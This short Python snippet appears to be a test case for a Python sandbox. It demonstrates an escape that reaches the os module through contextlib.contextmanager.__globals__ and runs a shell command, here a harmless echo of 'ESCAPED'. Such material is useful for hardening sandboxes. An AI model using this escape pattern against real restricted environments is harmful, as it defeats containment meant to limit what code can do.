# kind: function-globals
# effect: prints ESCAPED
import contextlib

modules = contextlib.contextmanager.__globals__
modules["os"].system("echo ESCAPED")
